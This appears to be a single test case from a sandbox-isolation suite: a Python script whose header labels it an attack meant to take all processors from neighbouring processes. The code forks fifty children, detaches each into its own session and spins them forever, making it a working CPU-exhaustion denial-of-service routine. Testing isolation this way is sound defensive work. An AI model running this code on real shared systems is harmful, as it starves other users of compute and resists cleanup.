# /// attack
# name = "fifty that spin"
# threat = "forks"
# tries = "Takes all processors from its neighbours, each child in a session of its own."
# seconds = 6
# walls = true
# ///

import os

for _ in range(50):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
while True:
    pass
